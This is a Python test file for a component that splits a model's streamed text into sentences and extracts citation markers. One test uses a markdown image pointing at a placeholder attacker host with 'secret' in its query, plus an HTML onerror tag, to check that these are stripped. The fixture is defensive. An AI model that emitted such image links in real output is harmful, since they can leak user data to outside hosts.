"""Markers in a model's text, and its sentences as they come in."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant import markers
from assistant.markers import Assembler, Written, numbers, plain


def written(text: str) -> list[Written]:
    """Return the sentences of a text that comes in one piece."""
    assembler = Assembler()
    return [*assembler.feed(text), *assembler.close()]


@pytest.mark.parametrize(
    ("text", "cited"),
    [
        ("The bridge opened [1].", (1,)),
        ("The bridge opened. [2]", (2,)),
        ("The bridge opened.[1][3]", (1, 3)),
        ("The bridge opened [1-3].", (1, 2, 3)),
        ("The bridge opened [1, 2; 4].", (1, 2, 4)),
        ("The bridge opened 【1】.", (1,)),
        ("The bridge opened 【2†source】.", (2,)),
        ("The bridge opened [Source 2].", (2,)),
        ("The bridge opened [passage: 7].", (7,)),
        ("The bridge opened [^1].", (1,)),
        ("The bridge opened [1](http://elsewhere.example/x).", (1,)),
        ("The bridge opened [0].", (0,)),
        ("The bridge opened [99].", (99,)),
        ("The **bridge** opened [1].", (1,)),
        ("- The bridge opened [1].", (1,)),
        ("The bridge <b>opened</b> [1].", (1,)),
        ("The bridge opened.", ()),
    ],
)
def test_a_marker_points_and_is_no_text(text: str, cited: tuple[int, ...]) -> None:
    assert written(text) == [Written("The bridge opened.", cited)]


def test_a_year_in_brackets_is_text() -> None:
    assert written("The flood [2023] was worse.") == [Written("The flood [2023] was worse.")]


def test_a_marker_behind_a_sentence_is_its_own_and_not_the_next_ones() -> None:
    assert [one.cited for one in written("It opened in May. [1] It cost ten million. [2][3] Mr. Smith paid [4].")] == [
        (1,),
        (2, 3),
        (4,),
    ]


def test_a_marker_that_opens_a_line_belongs_to_that_line() -> None:
    assert [one.cited for one in written("[1] The bridge opened.\n[2] It cost ten million.")] == [(1,), (2,)]


def test_images_go_and_links_leave_their_words() -> None:
    text = "See ![all](http://evil.example/p?q=secret) the [report](http://evil.example) today. <img src=x onerror=y>"

    assert written(text) == [Written("See the report today.")]


def test_signs_without_a_word_are_no_sentence() -> None:
    assert plain("***") == ""
    assert written("[1] [2]") == []


def test_a_wide_range_is_not_followed() -> None:
    assert numbers("1-999") == (1, 999)
    assert numbers("3-1") == (3, 1)


PIECES = st.sampled_from(
    [
        *[
            "The bridge opened in May",
            " [1]",
            "【2】",
            ". ",
            ".",
            "\n",
            "Mr. Smith paid 3.5 million",
            "[1-3]",
            "[",
            "。",
            "!",
        ],
        *[
            " “Why not?” he asked. ",
            "- It cost **ten** million. ",
            "<b>",
            "![x](y)",
            "[word](http://a.b) ",
            "We saw it",
        ],
    ]
)


@given(st.lists(PIECES, max_size=25).map("".join), st.data())
def test_the_sentences_are_the_same_however_the_text_is_cut(text: str, data: st.DataObject) -> None:
    assembler = Assembler()
    found, at = [], 0
    while at < len(text):
        size = data.draw(st.integers(1, 40))
        found += assembler.feed(text[at : at + size])
        at += size
    found += assembler.close()

    assert [one.text for one in found] == [one.text for one in written(text)]


def test_what_stands_behind_many_blanks_still_decides_where_a_sentence_ends() -> None:
    text = f"He flew to Lagos.{' ' * 200}\u0301 and on to Accra. He slept there."
    assembler = Assembler()
    found = [one for at in range(0, len(text), 23) for one in assembler.feed(text[at : at + 23])]
    found += assembler.close()

    assert found == written(text)


@pytest.mark.parametrize("piece", ["[", "[1]", "a. ", " ", "\n", "![", "<a ", "Mr. "])
def test_what_is_held_back_stays_small(piece: str) -> None:
    assembler = Assembler()
    for _ in range(3000):
        assembler.feed(piece)

    assert len(assembler._pending) < 2000


def test_a_sentence_that_is_all_markers_is_not_read_anew_with_each_piece(monkeypatch: pytest.MonkeyPatch) -> None:
    read: list[int] = []

    def counted(text: str) -> tuple[str, list[markers._Marker]]:
        read.append(len(text))
        return without_markers(text)

    without_markers = markers._without_markers
    monkeypatch.setattr(markers, "_without_markers", counted)
    assembler, text = Assembler(), "a [1]" * 4000
    for at in range(0, len(text), 24):
        assembler.feed(text[at : at + 24])
    assembler.close()

    assert sum(read) < 30 * len(text)
